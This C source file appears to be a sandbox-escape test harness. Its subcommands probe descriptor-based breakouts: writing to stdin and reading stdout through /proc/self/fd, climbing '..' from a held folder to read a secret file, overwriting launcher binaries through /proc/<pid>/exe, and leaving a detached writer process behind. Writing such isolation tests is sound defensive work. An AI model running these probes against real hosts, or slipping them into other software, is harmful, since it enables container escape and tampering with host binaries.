/* SPDX-License-Identifier: Apache-2.0 */
/* fd.c - descriptors: what was inherited, what can be reopened with more rights, where ".." leads.
 */
#include "attack.h"

/* Descriptors above 2 that this program did not open. */
static void list(int argc, char **argv)
{
	(void)argc, (void)argv;
	for (int fd = 3; fd < 4096; fd++) {
		char path[64], to[4096] = "";
		ssize_t n;

		if (fcntl(fd, F_GETFD) < 0)
			continue;
		snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
		n = readlink(path, to, sizeof(to) - 1);
		yes("fd", "%d %s", fd, n > 0 ? to : "?");
	}
	if (!worked)
		no("fd", EBADF);
}

/* What 0, 1 and 2 are; written to a file, since they may be closed. */
static void streams(int argc, char **argv)
{
	int low = open(argc ? argv[0] : "/workspace/report", O_WRONLY | O_CREAT | O_TRUNC, 0644);
	FILE *f = fdopen(fcntl(low, F_DUPFD, 100), "w"); /* away from the numbers it reports on */

	close(low);
	for (int fd = 0; f && fd < 3; fd++) {
		char path[64], to[4096] = "closed";
		struct stat st;

		snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
		if (fstat(fd, &st) < 0) {
			fprintf(f, "%d closed closed\n", fd);
			continue;
		}
		to[0] = '\0';
		(void)!readlink(path, to, sizeof(to) - 1);
		fprintf(f, "%d %s %s\n", fd,
			S_ISFIFO(st.st_mode)   ? "pipe"
			: S_ISCHR(st.st_mode)  ? "device"
			: S_ISREG(st.st_mode)  ? "file"
			: S_ISDIR(st.st_mode)  ? "folder"
			: S_ISSOCK(st.st_mode) ? "socket"
					       : "other",
			to);
	}
	if (f)
		fclose(f);
}

/* Write where only reading was given, read where only writing was. The report goes to stderr. */
static void reopen(int argc, char **argv)
{
	char text[256] = "";
	int in, out;

	(void)argc, (void)argv;
	dup2(2, 1000); /* keep it: nothing here may use stdout itself */
	in = open("/proc/self/fd/0", O_WRONLY);
	if (in >= 0 && ftruncate(in, 0) == 0 && pwrite(in, "PWNED", 5, 0) == 5)
		fprintf(stderr, "+ write-stdin\n");
	else
		fprintf(stderr, "- write-stdin %s\n", strerrorname_np(errno));
	out = open("/proc/self/fd/1", O_RDONLY | O_NONBLOCK);
	if (out >= 0 && pread(out, text, sizeof(text) - 1, 0) > 0)
		fprintf(stderr, "+ read-stdout %s\n", text);
	else
		fprintf(stderr, "- read-stdout %s\n", strerrorname_np(errno));
	out = open("/proc/self/fd/1", O_RDWR | O_TRUNC | O_NONBLOCK);
	fprintf(stderr, "%c truncate-stdout\n", out >= 0 && ftruncate(out, 0) == 0 ? '+' : '-');
}

/* Hold a folder, let the host move it away, climb. NAME is looked for on the way up. */
static void climb(int argc, char **argv)
{
	const char *base = argc > 1 ? argv[1] : "/workspace";
	char path[4096];
	int fd;

	snprintf(path, sizeof(path), "%s/deep/er", base);
	if (chdir(path) < 0 || (fd = open(".", O_RDONLY | O_DIRECTORY)) < 0) {
		cannot("climb", "no folder");
		return;
	}
	let_host_look(base);
	for (int up = 1; up < 12; up++) {
		int secret;

		path[0] = '\0';
		for (int i = 0; i < up; i++)
			strcat(path, "../");
		strcat(path, argc ? argv[0] : "secret");
		secret = openat(fd, path, O_RDONLY);
		if (secret < 0)
			secret = open(path, O_RDONLY);
		if (secret >= 0) {
			char text[128] = "";

			(void)!read(secret, text, sizeof(text) - 1);
			yes("climb", "%d %s", up, text);
			return;
		}
	}
	no("climb", ENOENT);
}

/* The launcher by /proc: open it for writing now, and by a handle kept until it is no longer busy.
 */
static void launcher(int argc, char **argv)
{
	int kept[64], n = 0;
	char path[64];

	for (int pid = 0; pid < 48; pid++) {
		if (pid)
			snprintf(path, sizeof(path), "/proc/%d/exe", pid);
		else
			snprintf(path, sizeof(path), "/proc/self/exe");
		if (argc && !pid)
			snprintf(path, sizeof(path), "/proc/%s/exe", argv[0]);
		int fd = open(path, O_WRONLY);

		if (fd >= 0 && pwrite(fd, "PWNED", 5, 0) == 5)
			yes("write", "%s", path);
		fd = open(path, O_PATH);
		if (fd >= 0)
			kept[n++] = fd;
	}
	let_host_look(argc > 1 ? argv[1] : "/workspace");
	for (int i = 0; i < n; i++) {
		snprintf(path, sizeof(path), "/proc/self/fd/%d", kept[i]);
		int fd = open(path, O_WRONLY);

		if (fd >= 0 && pwrite(fd, "PWNED", 5, 0) == 5)
			yes("rewrite", "%s", path);
	}
	no("launcher", 0);
}

/* Goes on writing to a file it holds open, as a process that outlives its parent. */
static void keep_writing(int argc, char **argv)
{
	int fd = open(argc ? argv[0] : "/workspace/log", O_WRONLY | O_CREAT | O_APPEND, 0644);

	if (fork() == 0) {
		setsid();
		close(0), close(1), close(2);
		for (int i = 0; i < 100000; i++) {
			(void)!write(fd, "x", 1);
			usleep(200);
		}
		_exit(0);
	}
	usleep(100000);
	yes("wrote", "%d", fd);
}

int main(int argc, char **argv)
{
	static const struct subcommand all[] = {
		{ "list", list },   { "streams", streams },   { "reopen", reopen },
		{ "climb", climb }, { "launcher", launcher }, { "keep-writing", keep_writing },
		{ NULL, NULL },
	};

	return dispatch(all, argc, argv);
}
